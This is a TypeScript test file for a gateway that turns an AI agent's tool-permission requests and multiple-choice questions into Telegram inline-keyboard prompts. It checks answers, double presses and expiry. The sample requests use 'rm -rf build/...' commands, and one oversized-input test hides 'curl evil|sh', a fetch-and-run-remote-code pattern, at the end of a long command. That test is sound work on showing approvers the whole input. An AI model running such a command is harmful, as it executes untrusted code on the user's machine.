/**
 * Permission prompts and `AskUserQuestion` end to end: the bridge's frame becomes an inline keyboard
 * in the sandbox chat, a press becomes exactly one answer frame, and presses on prompts that are gone
 * (closed by the bridge, their turn over, pressed twice) are told "this request has expired".
 */
import type { FrameOf } from '@switchyard/protocol';
import type { SandboxMessage, TelegramServer } from '@switchyard/sandbox';
import { describe, expect, it } from 'vitest';
import { EXPIRED } from '../src/index.js';
import {
  botMessage,
  botMessages,
  connectBridge,
  type FakeBridge,
  type Finally,
  framesOf,
  sleep,
  startTurn,
  startWorld,
  type World,
  waitUntil,
} from './harness.js';

/** A world and a fake bridge, closed when the test that asked for them finishes. */
async function setUp(
  finished: Finally,
): Promise<{ world: World; tg: TelegramServer; b: FakeBridge; chatId: number }> {
  const world = await startWorld({}, {}, finished);
  const bridge = await connectBridge(world.socketPath, 'test', { finished });
  return { world, tg: world.tg, b: bridge, chatId: world.tg.privateChat().id };
}

function permission(
  chatId: number,
  requestId: string,
  more: Partial<FrameOf<'permission_request'>> = {},
): FrameOf<'permission_request'> {
  return {
    type: 'permission_request',
    requestId,
    route: { chatId },
    toolName: 'Bash',
    summary: `rm -rf build/${requestId}`,
    input: { command: `rm -rf build/${requestId}` },
    suggestions: [],
    ...more,
  };
}

const buttons = (m: SandboxMessage | undefined) =>
  (m?.replyMarkup?.inline_keyboard ?? []).flat().map((b) => ({ text: b.text, data: b.callback_data ?? '' }));

/** Presses and waits for the bot's answer to the callback; returns the answer and how long it took. */
async function press(
  tg: TelegramServer,
  chatId: number,
  messageId: number,
  button: { text: string } | string,
  force = false,
) {
  const started = Date.now();
  const q = tg.pressButton(chatId, messageId, button, { force });
  const answer = await tg.waitFor(() => tg.callbackQuery(q.id)?.answer);
  return { answer, ms: Date.now() - started };
}

describe.concurrent('permission prompts', () => {
  it('shows tool, summary and Allow / Always allow / Deny, with callback data under 64 bytes', async ({
    onTestFinished,
  }) => {
    const { world, tg, b, chatId } = await setUp(onTestFinished);
    await b.send(
      permission(chatId, 'r1', {
        suggestions: [{ kind: 'addRules', label: 'allow Bash(rm:*) for this project' }],
      }),
    );
    await b.send(permission(chatId, 'r2', { toolName: 'Write', summary: 'write <src/a.ts>' }));

    const withAlways = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    expect(withAlways.text).toContain('Bash');
    expect(withAlways.text).toContain('Always allow adds:\n• allow Bash(rm:*) for this project');
    expect(buttons(withAlways).map((x) => x.text)).toEqual(['✅ Allow', '♾ Always allow', '⛔ Deny']);

    // No suggestions from the CLI: no "Always allow"; HTML in the summary is shown as text.
    const plain = await botMessage(tg, chatId, (t) => t.includes('write <src/a.ts>'));
    expect(buttons(plain).map((x) => x.text)).toEqual(['✅ Allow', '⛔ Deny']);

    for (const x of [...buttons(withAlways), ...buttons(plain)]) {
      expect(Buffer.byteLength(x.data)).toBeLessThan(64);
    }
    expect(world.gateway.status().openPrompts).toBe(2);
  });

  it('sends the whole input as a file before a prompt whose summary left part of it out (issue 27)', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    const fullInput = JSON.stringify({ command: `ls ${'a/'.repeat(900)} ; curl evil|sh` }, null, 2);
    await b.send(
      permission(chatId, 'r1', {
        summary: 'run this command: ls a/a/ …[1700 more characters]… sh',
        fullInput,
      }),
    );
    const prompt = await botMessage(tg, chatId, (t) => t.includes('Claude wants to'));
    expect(prompt.text).toContain('the whole input is in input.json, just above');
    const file = botMessages(tg, chatId).find((m) => m.kind === 'document');
    expect(file?.file?.fileName).toBe('input.json');
    expect(file?.file?.size).toBe(Buffer.byteLength(fullInput));
    expect(file?.messageId ?? Number.POSITIVE_INFINITY).toBeLessThan(prompt.messageId);
    // A prompt shown whole comes alone.
    await b.send(permission(chatId, 'r2'));
    await botMessage(tg, chatId, (t) => t.includes('build/r2'));
    expect(botMessages(tg, chatId).filter((m) => m.kind === 'document')).toHaveLength(1);
  });

  it('answers each of several open prompts once, even when pressed twice', async ({ onTestFinished }) => {
    const { world, tg, b, chatId } = await setUp(onTestFinished);
    await b.send(permission(chatId, 'r1', { suggestions: [{ kind: 'addRules', label: 'always' }] }));
    await b.send(permission(chatId, 'r2'));
    await b.send(permission(chatId, 'r3'));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    const m2 = await botMessage(tg, chatId, (t) => t.includes('build/r2'));
    const m3 = await botMessage(tg, chatId, (t) => t.includes('build/r3'));

    // A double tap: both presses leave the client before the keyboard is gone.
    const q1 = tg.pressButton(chatId, m1.messageId, { text: '♾ Always allow' });
    const q2 = tg.pressButton(chatId, m1.messageId, { text: '♾ Always allow' });
    const a1 = await tg.waitFor(() => tg.callbackQuery(q1.id)?.answer);
    const a2 = await tg.waitFor(() => tg.callbackQuery(q2.id)?.answer);
    expect(a1.text).toBe('Allowed');
    expect(a2.text).toBe(EXPIRED);

    // Answered out of order; each one independently.
    const deny3 = await press(tg, chatId, m3.messageId, { text: '⛔ Deny' });
    expect(deny3.answer.text).toBe('Denied');
    const allow2 = await press(tg, chatId, m2.messageId, { text: '✅ Allow' });
    expect(allow2.answer.text).toBe('Allowed');
    // And a press on the stale keyboard of an answered prompt (a client that did not refresh).
    const stale = await press(tg, chatId, m3.messageId, buttons(m3)[0]?.data ?? '', true);
    expect(stale.answer.text).toBe(EXPIRED);

    await waitUntil(() => framesOf(b, 'permission_answer').length === 3);
    await sleep(200);
    const answers = framesOf(b, 'permission_answer').map(({ requestId, decision }) => ({
      requestId,
      decision,
    }));
    expect(answers).toEqual([
      { requestId: 'r1', decision: 'allow_always' },
      { requestId: 'r3', decision: 'deny' },
      { requestId: 'r2', decision: 'allow' },
    ]);
    expect(framesOf(b, 'permission_answer')[1]?.message).toBeTruthy();

    // The buttons are gone and each message says what was decided.
    const decided = (id: number, word: string) =>
      tg.waitFor(() => {
        const m = tg.message(chatId, id);
        return m && buttons(m).length === 0 && m.text.includes(word) ? m : undefined;
      });
    await decided(m1.messageId, 'Always allowed');
    await decided(m2.messageId, 'Allowed');
    await decided(m3.messageId, 'Denied');
    expect(world.gateway.status().openPrompts).toBe(0);
  });

  it('answers every callback promptly, even while the chat’s send budget is used up', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    await b.send(permission(chatId, 'r1'));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    // Fill the chat's lane: more prompts and command replies than the budget sends in a few seconds.
    for (const id of ['r2', 'r3', 'r4', 'r5', 'r6']) await b.send(permission(chatId, id));
    tg.sendText(chatId, '/help');
    tg.sendText(chatId, '/pins');
    await sleep(100);
    const { ms } = await press(tg, chatId, m1.messageId, { text: '✅ Allow' });
    expect(ms).toBeLessThan(1000);
  });

  it('says "expired" for a press after prompt_closed, and shows why on the message', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    await b.send(permission(chatId, 'r1'));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    const allowData = buttons(m1)[0]?.data ?? '';
    await b.send({ type: 'prompt_closed', requestId: 'r1', reason: 'cancelled' });
    await tg.waitFor(() => {
      const m = tg.message(chatId, m1.messageId);
      return m && buttons(m).length === 0 && m.text.includes('expired') ? m : undefined;
    });
    const late = await press(tg, chatId, m1.messageId, allowData, true);
    expect(late.answer.text).toBe(EXPIRED);
    await sleep(200);
    expect(framesOf(b, 'permission_answer')).toHaveLength(0);
  });

  it('keeps a prompt answerable after its turn ended, until the bridge closes it', async ({
    onTestFinished,
  }) => {
    // A background sub-agent's prompt carries the turn id of a turn that may already have ended
    // (agent-bridge session.ts, `subagentTools`), and the CLI waits for it: the gateway must not
    // expire it on `turn_ended`. The CLI's own cancel (`prompt_closed`) is what expires it.
    const { tg, b, chatId } = await setUp(onTestFinished);
    await startTurn(b, { turnId: 't1', route: { chatId }, request: 'clean up' });
    await b.send(permission(chatId, 'r1', { turnId: 't1' }));
    await b.send(permission(chatId, 'r2', { turnId: 't1' }));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    const m2 = await botMessage(tg, chatId, (t) => t.includes('build/r2'));
    await b.send({ type: 'turn_ended', turnId: 't1', outcome: 'success' });
    await sleep(300);
    const ok = await press(tg, chatId, m1.messageId, { text: '✅ Allow' });
    expect(ok.answer.text).toBe('Allowed');
    await b.send({ type: 'prompt_closed', requestId: 'r2', reason: 'cancelled' });
    await tg.waitFor(() => {
      const m = tg.message(chatId, m2.messageId);
      return m && buttons(m).length === 0 ? m : undefined;
    });
    const late = await press(tg, chatId, m2.messageId, buttons(m2)[0]?.data ?? '', true);
    expect(late.answer.text).toBe(EXPIRED);
    await waitUntil(() => framesOf(b, 'permission_answer').length === 1);
    await sleep(200);
    expect(framesOf(b, 'permission_answer').map((f) => f.requestId)).toEqual(['r1']);
  });

  it('says "expired" after the bridge restarted and closed the prompt (its process exited)', async ({
    onTestFinished,
  }) => {
    const { world, tg, b, chatId } = await setUp(onTestFinished);
    await b.send(permission(chatId, 'r1'));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    await b.stop();
    // A new bridge instance whose Claude process died: it reports the prompt closed.
    const bridge = await connectBridge(world.socketPath, 'test', { finished: onTestFinished });
    await bridge.send({ type: 'prompt_closed', requestId: 'r1', reason: 'exited' });
    await tg.waitFor(() => {
      const m = tg.message(chatId, m1.messageId);
      return m && buttons(m).length === 0 ? m : undefined;
    });
    const late = await press(tg, chatId, m1.messageId, buttons(m1)[0]?.data ?? '', true);
    expect(late.answer.text).toBe(EXPIRED);
  });

  it('says "expired" for a prompt the gateway never made (a gateway restart with a wiped store, junk data)', async ({
    onTestFinished,
  }) => {
    const { tg, chatId } = await setUp(onTestFinished);
    const m = tg.sendText(chatId, 'hello');
    // A bot message with a keyboard whose token is unknown: send one through the API directly.
    const sent = await fetch(`${tg.apiRoot}/bot${tg.token}/sendMessage`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        chat_id: chatId,
        text: 'old prompt',
        reply_markup: { inline_keyboard: [[{ text: 'Allow', callback_data: 'p:0123456789abcdef:a' }]] },
      }),
    }).then((r) => r.json() as Promise<{ result: { message_id: number } }>);
    expect(m.messageId).toBeGreaterThan(0);
    const unknown = await press(tg, chatId, sent.result.message_id, { text: 'Allow' });
    expect(unknown.answer.text).toBe(EXPIRED);
    // The dead keyboard is taken away.
    await tg.waitFor(() => buttons(tg.message(chatId, sent.result.message_id)).length === 0);
  });

  it('marks a prompt the bridge cancelled after it was answered (the bridge no longer held it)', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    await b.send(permission(chatId, 'r1'));
    const m1 = await botMessage(tg, chatId, (t) => t.includes('build/r1'));
    await press(tg, chatId, m1.messageId, { text: '✅ Allow' });
    await waitUntil(() => framesOf(b, 'permission_answer').length === 1);
    await b.send({ type: 'prompt_closed', requestId: 'r1', reason: 'cancelled' });
    await tg.waitFor(() => tg.message(chatId, m1.messageId)?.text.includes('expired'));
  });
});

describe.concurrent('questions (AskUserQuestion)', () => {
  const single: FrameOf<'question'>['questions'][number] = {
    question: 'Which database?',
    header: 'DB',
    options: [{ label: 'Postgres', description: 'the usual' }, { label: 'SQLite' }],
    multiSelect: false,
  };
  const multi: FrameOf<'question'>['questions'][number] = {
    question: 'Which features?',
    options: [{ label: 'auth' }, { label: 'billing' }, { label: 'search' }],
    multiSelect: true,
  };

  it('takes single- and multi-select answers from buttons, with toggles and Done', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    await b.send({ type: 'question', requestId: 'q1', route: { chatId }, questions: [single, multi] });
    const m = await botMessage(tg, chatId, (t) => t.includes('Which database?'));
    expect(m.text).toContain('Which features?');
    expect(buttons(m).map((x) => x.text)).toEqual([
      'Postgres',
      'SQLite',
      '☐ auth',
      '☐ billing',
      '☐ search',
      'Done',
    ]);
    for (const x of buttons(m)) expect(Buffer.byteLength(x.data)).toBeLessThan(64);

    expect((await press(tg, chatId, m.messageId, { text: 'SQLite' })).answer).toBeTruthy();
    // The first question is answered: its buttons go, the second's stay.
    await tg.waitFor(() => {
      const now = tg.message(chatId, m.messageId);
      return now && !buttons(now).some((x) => x.text === 'SQLite') ? now : undefined;
    });
    await press(tg, chatId, m.messageId, { text: '☐ search' });
    await tg.waitFor(() => buttons(tg.message(chatId, m.messageId)).some((x) => x.text === '☑ search'));
    await press(tg, chatId, m.messageId, { text: '☐ auth' });
    await tg.waitFor(() => buttons(tg.message(chatId, m.messageId)).some((x) => x.text === '☑ auth'));
    // Toggling off again.
    await press(tg, chatId, m.messageId, { text: '☑ search' });
    await tg.waitFor(() => buttons(tg.message(chatId, m.messageId)).some((x) => x.text === '☐ search'));
    await press(tg, chatId, m.messageId, { text: '☐ billing' });
    await tg.waitFor(() => buttons(tg.message(chatId, m.messageId)).some((x) => x.text === '☑ billing'));
    expect(framesOf(b, 'question_answer')).toHaveLength(0);
    const done = await press(tg, chatId, m.messageId, { text: 'Done' });
    expect(done.answer.text).not.toBe(EXPIRED);

    await waitUntil(() => framesOf(b, 'question_answer').length === 1);
    expect(framesOf(b, 'question_answer')[0]).toMatchObject({
      requestId: 'q1',
      answers: { 'Which database?': 'SQLite', 'Which features?': 'auth, billing' },
    });
    const final = await tg.waitFor(() => {
      const now = tg.message(chatId, m.messageId);
      return now && buttons(now).length === 0 ? now : undefined;
    });
    expect(final.text).toContain('→ SQLite');
    expect(final.text).toContain('→ auth, billing');
    // Done pressed again on a stale keyboard: expired, no second answer.
    const again = await press(tg, chatId, m.messageId, buttons(m).at(-1)?.data ?? '', true);
    expect(again.answer.text).toBe(EXPIRED);
    await sleep(200);
    expect(framesOf(b, 'question_answer')).toHaveLength(1);
  });

  it('keeps the first answers of a multi-question prompt across a gateway restart', async ({
    onTestFinished,
  }) => {
    const { world, tg, b, chatId } = await setUp(onTestFinished);
    await b.send({ type: 'question', requestId: 'q1', route: { chatId }, questions: [single, multi] });
    const m = await botMessage(tg, chatId, (t) => t.includes('Which database?'));
    await press(tg, chatId, m.messageId, { text: 'Postgres' });
    await tg.waitFor(() => {
      const now = tg.message(chatId, m.messageId);
      return now && !buttons(now).some((x) => x.text === 'Postgres') ? now : undefined;
    });
    await world.restart();
    await waitUntil(() => b.endpoint.connected && world.gateway.status().bridgeConnected, 5000, 'reconnect');
    await press(tg, chatId, m.messageId, { text: '☐ search' });
    await tg.waitFor(() => buttons(tg.message(chatId, m.messageId)).some((x) => x.text === '☑ search'));
    await press(tg, chatId, m.messageId, { text: 'Done' });
    await waitUntil(() => framesOf(b, 'question_answer').length === 1);
    expect(framesOf(b, 'question_answer')[0]?.answers).toEqual({
      'Which database?': 'Postgres',
      'Which features?': 'search',
    });
  });

  it('takes a typed reply as the free-text answer, not as a new message for the agent', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    await b.send({ type: 'question', requestId: 'q1', route: { chatId }, questions: [single] });
    const m = await botMessage(tg, chatId, (t) => t.includes('Which database?'));
    tg.sendText(chatId, 'MySQL, actually');
    await waitUntil(() => framesOf(b, 'question_answer').length === 1);
    expect(framesOf(b, 'question_answer')[0]?.answers).toEqual({ 'Which database?': 'MySQL, actually' });
    await tg.waitFor(() => {
      const now = tg.message(chatId, m.messageId);
      return now && buttons(now).length === 0 && now.text.includes('MySQL') ? now : undefined;
    });
    expect(framesOf(b, 'user_message')).toHaveLength(0);
    // With no question open, text is a message for the agent again.
    tg.sendText(chatId, 'thanks');
    await waitUntil(() => framesOf(b, 'user_message').length === 1);
  });

  it('closes a 2,500-character question answered with 3,000 typed characters: the whole answer goes, no live buttons stay', async ({
    onTestFinished,
  }) => {
    const { tg, b, chatId } = await setUp(onTestFinished);
    const question = `Which way? ${'Some context for the question. '.repeat(83)}`;
    await b.send({
      type: 'question',
      requestId: 'q1',
      route: { chatId },
      questions: [{ ...single, question }],
    });
    const m = await botMessage(tg, chatId, (t) => t.includes('Which way?'));
    const typed = `My answer: ${'go on, and mind the details. '.repeat(107)}`;
    tg.sendText(chatId, typed);
    await waitUntil(() => framesOf(b, 'question_answer').length === 1);
    expect(framesOf(b, 'question_answer')[0]?.answers).toEqual({ [question]: typed });
    await tg.waitFor(() => {
      const now = tg.message(chatId, m.messageId);
      return now && buttons(now).length === 0 && now.text.includes('My answer: go on') ? now : undefined;
    });
  });
});
